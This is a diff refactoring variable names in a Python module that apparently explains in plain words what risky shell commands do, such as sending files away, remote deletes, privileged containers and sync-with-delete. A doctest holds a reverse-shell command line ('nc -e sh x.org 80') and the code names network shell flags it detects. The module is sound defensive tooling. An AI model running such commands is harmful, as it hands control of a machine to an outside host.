@@ -41,12 +41,16 @@ def tell_sent(told: Told) -> str | None:
     hosts = _hosts_of(told)
     if not hosts:
         return None
-    to = names_of([Exact(text=it) for it in hosts if it != "?"]) or "another machine"
+    to = names_of([Exact(text=host) for host in hosts if host != "?"]) or "another machine"
     files = [*_files_in(told)]
     if files:
         return f"Sends {names_of(files) or 'what it is given'} to {to}."
     methods = [it.text for flag, it in told.sorted_.values if flag in _METHODS.split()]
-    methods += [it.text for it in told.sorted_.operands[:1] if told.name in ("http", "https", "xh")]
+    methods += [
+        operand.text
+        for operand in told.sorted_.operands[:1]
+        if told.name in ("http", "https", "xh")
+    ]
     return f"Asks {to} to delete something." if "DELETE" in methods else None
 
 
@@ -76,7 +80,7 @@ def _files_in(told: Told) -> Iterator[Word]:
         elif path:
             yield Exact(text=path)
     if told.name in ("http", "https", "xh"):
-        named = (re.search(r"@(.+)", it.text) for it in told.sorted_.operands[1:])
+        named = (re.search(r"@(.+)", operand.text) for operand in told.sorted_.operands[1:])
         yield from (Exact(text=it[1]) for it in named if it and "://" not in it.string)
 
 
@@ -98,14 +102,16 @@ def tell_piped(told: Told) -> str | None:
     >>> losses_of(words_of("nc -e sh x.org 80"))
     ('Lets another machine give commands to this one.',)
     """
-    runs = told.name == "socat" and any(_RUNS.match(it.text) for it in told.sorted_.operands)
+    runs = told.name == "socat" and any(
+        _RUNS.match(operand.text) for operand in told.sorted_.operands
+    )
     if runs or told.sorted_.has("-e -c --exec --sh-exec"):
         return "Lets another machine give commands to this one."
-    hosts = [host_of(it) for it in told.sorted_.operands if not it.text.isdigit()]
-    hosts = [it for it in hosts if not _is_near(it) and it != "?"]
+    hosts = [host_of(operand) for operand in told.sorted_.operands if not operand.text.isdigit()]
+    hosts = [host for host in hosts if not _is_near(host) and host != "?"]
     if not told.fed or not hosts or told.sorted_.has("-z"):
         return None
-    return f"Sends what it is given to {names_of([Exact(text=it) for it in hosts])}."
+    return f"Sends what it is given to {names_of([Exact(text=host) for host in hosts])}."
 
 
 def tell_copied(told: Told) -> str | None:
@@ -120,7 +126,7 @@ def tell_copied(told: Told) -> str | None:
     """
     *sources, last = told.sorted_.operands or [Exact(text="")]
     there = _REMOTE.match(last.text)
-    if there is None or not sources or any(_REMOTE.match(it.text) for it in sources):
+    if there is None or not sources or any(_REMOTE.match(source.text) for source in sources):
         return None
     host = there[1] or there[2]
     if _is_near(host) and host in ("localhost", "127.0.0.1"):
@@ -139,7 +145,7 @@ def tell_stored(told: Told) -> str | None:
     ('Sends `out` to `s3://site`, and deletes there what is not here.',)
     """
     *sources, last = told.rest or (Exact(text=""),)
-    away = _STORES.match(last.text) and not any(_STORES.match(it.text) for it in sources)
+    away = _STORES.match(last.text) and not any(_STORES.match(source.text) for source in sources)
     syncs = told.sorted_.operands[0].text in ("s3", "sync", "rsync", "mirror")
     gone = syncs and (told.sorted_.has("--delete -d") or told.name == "rclone")
     if not sources:
@@ -160,7 +166,7 @@ def tell_container(told: Told) -> str | None:
     >>> losses_of(words_of("docker run -v ./data:/data alpine"))
     ()
     """
-    texts = [it.text for it in told.words]
+    texts = [word.text for word in told.words]
     if any(it in ("--privileged", "--privileged=true") for it in texts):
         return "Gives the container all rights over this machine."
     for _, given in mounts(told.words):
